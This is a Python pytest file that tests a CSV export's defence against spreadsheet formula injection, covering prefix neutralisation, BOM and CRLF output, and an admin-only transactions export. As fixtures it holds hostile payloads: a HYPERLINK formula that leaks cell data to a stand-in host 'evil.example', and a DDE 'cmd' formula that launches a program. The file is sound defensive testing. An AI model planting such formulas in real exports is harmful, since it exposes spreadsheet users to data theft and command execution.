"""Spreadsheet-safe CSV (security checklist: Exports, OWASP CSV Injection)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from textedit_core import admin, auth, billing
from textedit_core.errors import NotAuthorized
from textedit_core.exports import DANGEROUS_PREFIXES, csv_bytes, neutralize
from textedit_core.models import Role

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")'


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def looks_numeric(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


# --- neutralize ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["=1+2", "+1+2", "-1+2", "@SUM(A1:A2)", "\tcmd", "\rcmd", "\ncmd", HYPERLINK, "=", "-"],
)
def test_neutralize_prefixes_text_a_spreadsheet_would_run_with_a_quote(text):
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["hello", "a=1+2", "1+2", " =1+2", "'=1+2", "", "user@example.com"]
)
def test_neutralize_leaves_other_text_unchanged(text):
    assert neutralize(text) == text


@pytest.mark.parametrize("number", [-5, 0, 3, -1.5, Decimal("-0.90"), Decimal("12.5")])
def test_neutralize_leaves_numbers_as_numbers_even_when_negative(number):
    assert neutralize(number) is number


@pytest.mark.parametrize("value", [None, True, False])
def test_neutralize_leaves_other_types_unchanged(value):
    assert neutralize(value) is value


# --- csv_bytes ----------------------------------------------------------------------------


def test_csv_bytes_starts_with_a_utf8_bom_and_ends_rows_with_crlf():
    data = csv_bytes(["a", "b"], [["x", 1]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"x,1\r\n")


def test_csv_bytes_read_back_gives_the_header_and_neutralised_cells():
    rows = [
        ["=cmd|' /C calc'!A0", -1, Decimal("-0.90"), "plain"],
        ["+SUM(1)", 2, Decimal("0.5"), "Ünïcode текст"],
        ["@A1", 0, Decimal("10"), "line one\nline two"],
        ["\tTAB", -3, Decimal("1"), "-starts with minus"],
    ]
    header, *body = read_back(csv_bytes(["text", "tokens", "amount", "note"], rows))
    assert header == ["text", "tokens", "amount", "note"]
    assert body == [
        ["'=cmd|' /C calc'!A0", "-1", "-0.90", "plain"],
        ["'+SUM(1)", "2", "0.5", "Ünïcode текст"],
        ["'@A1", "0", "10", "line one\nline two"],
        ["'\tTAB", "-3", "1", "'-starts with minus"],
    ]


def test_csv_bytes_neutralises_cells_starting_with_cr_or_lf_and_keeps_them_in_one_cell():
    header, *body = read_back(csv_bytes(["a", "b"], [["\r=1+2", "\n@A1"]]))
    assert body == [["'\r=1+2", "'\n@A1"]]


# --- admin.transactions_csv ---------------------------------------------------------------


@pytest.fixture
def exported(db, make_user, fund) -> list[dict[str, str]]:
    """The CSV of a ledger whose text columns hold formulas; read back as dicts."""
    # An email may begin with '=' and contain '+': both are legal in a local part.
    email = auth.normalize_email("=2+5@example.com")
    assert email == "=2+5@example.com"
    user_id = make_user(email)
    admin_id = make_user("boss@example.com", role=Role.ADMIN)
    fund(user_id, 2)
    first = db.run(lambda s: billing.charge(s, user_id, "@SUM(A1:A9)"))
    db.run(lambda s: billing.refund(s, first.id, HYPERLINK))
    second = db.run(lambda s: billing.charge(s, user_id, "-fix"))
    db.run(lambda s: billing.settle(s, second.id))
    with db.read() as session:
        data = admin.transactions_csv(session, admin_id)
    header, *body = read_back(data)
    assert header == admin.TRANSACTION_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in body]


def test_transactions_csv_has_one_row_per_ledger_entry(exported):
    kinds = sorted(row["kind"] for row in exported)
    assert kinds == ["charge", "charge", "refund", "topup"]


def test_transactions_csv_neutralises_a_formula_in_the_failure_column(exported):
    failures = [row["failure"] for row in exported if row["failure"]]
    assert failures == ["'" + HYPERLINK] * 2  # the refunded charge and its refund row


def test_transactions_csv_neutralises_a_formula_in_the_email_column(exported):
    assert {row["email"] for row in exported} == {"'=2+5@example.com"}


def test_transactions_csv_neutralises_a_formula_in_the_operation_column(exported):
    operations = sorted(row["operation"] for row in exported if row["operation"])
    assert operations == ["'-fix", "'@SUM(A1:A9)", "'@SUM(A1:A9)"]


def test_transactions_csv_keeps_negative_token_counts_as_plain_numbers(exported):
    assert sorted(int(row["tokens"]) for row in exported) == [-1, -1, 1, 2]
    assert all(not row["tokens"].startswith("'") for row in exported)


def test_transactions_csv_has_no_cell_a_spreadsheet_would_run(exported):
    for row in exported:
        for column, cell in row.items():
            if cell.startswith(DANGEROUS_PREFIXES):
                assert looks_numeric(cell), f"{column}: {cell!r} would be run as a formula"


def test_transactions_csv_writes_utc_timestamps_and_exact_amounts(exported):
    [topup] = [row for row in exported if row["kind"] == "topup"]
    assert topup["created_at"].endswith("Z")
    assert (topup["amount"], topup["currency"], topup["rate"]) == ("0.2", "USD", "0.1")


def test_transactions_csv_is_refused_to_a_non_admin(db, make_user):
    user_id = make_user()
    with db.read() as session, pytest.raises(NotAuthorized):
        admin.transactions_csv(session, user_id)
